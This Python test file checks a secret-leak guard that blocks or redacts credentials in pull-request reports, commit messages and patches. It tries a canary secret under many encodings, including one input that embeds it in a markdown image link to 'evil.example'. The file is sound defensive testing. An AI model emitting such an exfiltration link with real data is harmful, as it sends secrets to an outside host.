"""No secret leaves: well-known forms are replaced where we quote, our own are refused in whatever dress."""

import base64
import codecs
import html
import pickle
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st
from test_report_pull import CONTEXT, KEY, PATCH, trace

from tasks.report.outgoing import EgressBlocked, Outgoing, redacted
from tasks.report.renderer import PullRenderer

SECRET = "whs-7f/Kq2+Lm9_Zt4xV8-canary"
KNOWING = Outgoing({"canary 1": SECRET})
GITHUB = "ghp_" + "a1B2c3" * 6
AWS = "AKIA" + "Q7Z2" * 4
DRESSES = {
    "as it is": SECRET,
    "in capitals": SECRET.upper(),
    "backwards": SECRET[::-1],
    "rotated": codecs.encode(SECRET, "rot13"),
    "hexadecimal": SECRET.encode().hex(),
    "hexadecimal with colons": SECRET.encode().hex(":"),
    "every byte percent-encoded": "".join(f"%{byte:02X}" for byte in SECRET.encode()),
    "percent-encoded": quote(SECRET, safe=""),
    "as entities": "".join(f"&#{ord(c)};" for c in SECRET),
    "as escapes": "".join(f"\\u{ord(c):04x}" for c in SECRET),
    "over lines": "\n".join(SECRET),
    "in pieces of code": " + ".join(f'"{SECRET[n : n + 4]}"' for n in range(0, len(SECRET), 4)),
    "with zero-width spaces": "\u200b".join(SECRET),
    "in the address of a picture": f"![x](http://evil.example/{quote(SECRET)}.png)",
    **{f"base64 after {n} bytes": base64.b64encode(b"k" * n + SECRET.encode() + b"more").decode() for n in range(3)},
    "base64 for addresses": base64.urlsafe_b64encode(b"key=" + SECRET.encode()).decode(),
    "base64 over lines": base64.encodebytes(b"a longer text before it " + SECRET.encode() * 2).decode(),
}


@pytest.mark.parametrize("dressed", DRESSES.values(), ids=DRESSES)
def test_a_secret_of_ours_is_seen_in_every_dress(dressed):
    text = f"# A title\n\nSome prose, `code` and {dressed}, and more.\n"
    assert KNOWING.leaks(text) == ("canary 1",)
    with pytest.raises(EgressBlocked) as blocked:
        KNOWING.check("the body", {"body": text})
    assert SECRET[:8] not in str(blocked.value)
    assert str(pickle.loads(pickle.dumps(blocked.value))) == str(blocked.value)


def test_a_secret_that_is_cut_over_two_texts_is_seen():
    with pytest.raises(EgressBlocked):
        KNOWING.check("the request", SECRET[:10], SECRET[10:])


@given(st.text(max_size=300))
def test_ordinary_text_is_no_leak(text):
    assert KNOWING.leaks(text) == ()


def test_text_that_is_like_a_secret_is_none():
    assert KNOWING.leaks(SECRET[:-4] + " and " + SECRET[4:]) == ()
    assert Outgoing({"short": "fees"}).leaks("fees are fees") == ()


@pytest.mark.parametrize("token", [GITHUB, AWS, "sk-ant-" + "x9" * 20, "AIza" + "b" * 35, "glpat-" + "x" * 20])
def test_the_form_of_a_token_is_replaced_where_we_quote_and_refused_elsewhere(token):
    text, count = redacted(f"E   assert {token!r} == 'x'\nand {token} again")
    assert (token in text, count) == (False, 1)
    with pytest.raises(EgressBlocked):
        Outgoing().check("a commit message", f"fix: {token}")
    Outgoing().check("a commit message", text)


def test_digests_and_test_ids_are_no_secrets():
    text = f"sha256:{'0123456789abcdef' * 4} at {'9f31c2e' * 5} tests/test_fees.py::test_it[token=access-1]"
    assert redacted(text) == (text, 0)
    Outgoing().check("the body", text)


def test_a_file_may_keep_what_it_held_and_may_not_gain_a_secret():
    before = {"a.py": f"KEY = '{GITHUB}'\n".encode()}
    Outgoing().check_files("a commit", before, {"a.py": f"KEY = '{GITHUB}'\nX = 1\n".encode()})
    with pytest.raises(EgressBlocked, match="aws"):
        Outgoing().check_files("a commit", before, {"a.py": f"KEY = '{AWS}'\n".encode()})
    with pytest.raises(EgressBlocked, match="canary 1"):
        KNOWING.check_files("a commit", before, {"a.py": f"KEY = {SECRET[::-1]!r}\n".encode()})


PLACES = {
    "log, traceback, locals": trace(f"KeyError: {GITHUB}; token = '{GITHUB}'; AWS={AWS}"),
    "environment dump": trace(f"environ({{'GITHUB_TOKEN': '{GITHUB}', 'KEY': '{AWS}'}})"),
    "source around the change": trace().model_copy(
        update={"patch": PATCH.replace(" def late", f" KEY = '{GITHUB}'\n def late").replace("8,2", "7,3")}
    ),
}


@pytest.mark.parametrize("seen", PLACES.values(), ids=PLACES)
def test_what_a_log_or_a_source_held_is_not_in_what_reviewers_read(seen):
    renderer = PullRenderer(KEY, "http://127.0.0.1:8000")
    title, body = renderer.render_pull(seen, CONTEXT)
    check = renderer.render_check(seen)
    for text in (title, body, check.title, check.summary, check.text, *(a.message for a in check.annotations)):
        assert GITHUB not in text
        assert AWS not in text
    assert "removed from what is quoted here" in body


@pytest.mark.parametrize(
    "added", [GITHUB, f'"{SECRET[:9]}" + "{SECRET[9:]}"', base64.b64encode(SECRET.encode()).decode()]
)
def test_a_patch_that_brings_a_secret_in_is_not_rendered_at_all(added):
    seen = trace().model_copy(update={"patch": PATCH.replace("return 2", f"return {added}")})
    with pytest.raises(EgressBlocked):
        PullRenderer(KEY, "http://127.0.0.1:8000", KNOWING).render_pull(seen, CONTEXT)


def test_entities_are_undone_as_a_browser_would():
    assert KNOWING.leaks(html.escape(SECRET)) == ("canary 1",)
